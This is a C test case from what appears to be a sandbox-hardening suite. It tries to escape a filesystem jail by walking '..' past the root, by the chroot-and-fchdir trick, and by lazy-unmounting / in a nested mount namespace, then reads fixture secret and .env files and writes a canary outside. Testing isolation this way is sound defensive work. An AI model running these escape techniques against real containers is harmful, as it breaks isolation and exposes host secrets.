// id: FS-35
// title: walk above the root: "..", chroot and fchdir, lazy unmount of / in a nested namespace
// class: boundary
// expect: the root of the box is the end; nothing of the host lies under or above it
// layer: pivot_root (an over-mount of / could be peeled off)
#include "../lib/atk.h"
static void look(void)
{
	char p[4300];
	snprintf(p, sizeof p, "%s/vault/secret.txt", cfg("FX") + 1);
	dump(p);
	snprintf(p, sizeof p, "%s/work/.env", cfg("FX") + 1);
	dump(p);
	snprintf(p, sizeof p, "%s/outside/canary.txt", cfg("FX") + 1);
	if (!putfile(p, "pwn"))
		escaped("wrote %s", p);
}
static void up(void)
{
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			break;
	look();
}
int main(int c, char **v)
{
	atk_init(v);
	int fd = open("/", O_RDONLY | O_DIRECTORY);
	chdir("/");
	up();
	char d[4300];
	snprintf(d, sizeof d, "%s/jail", cfg("WORK"));
	mkdir(d, 0700);
	if (!chroot(d)) {
		fchdir(fd);
		up();
		chroot(".");
		look();
	}
	if (newns(CLONE_NEWNS))
		blocked("no user namespace; .. ends at /");
	for (int i = 0; i < 8; i++) {
		chdir("/");
		umount2("/", MNT_DETACH);
		up();
		fchdir(fd);
		up();
	}
	mount("none", "/", NULL, MS_MOVE, NULL);
	up();
	if (!chroot(d)) {
		fchdir(fd);
		up();
		chroot(".");
		look();
	}
	blocked("nothing above the root");
}
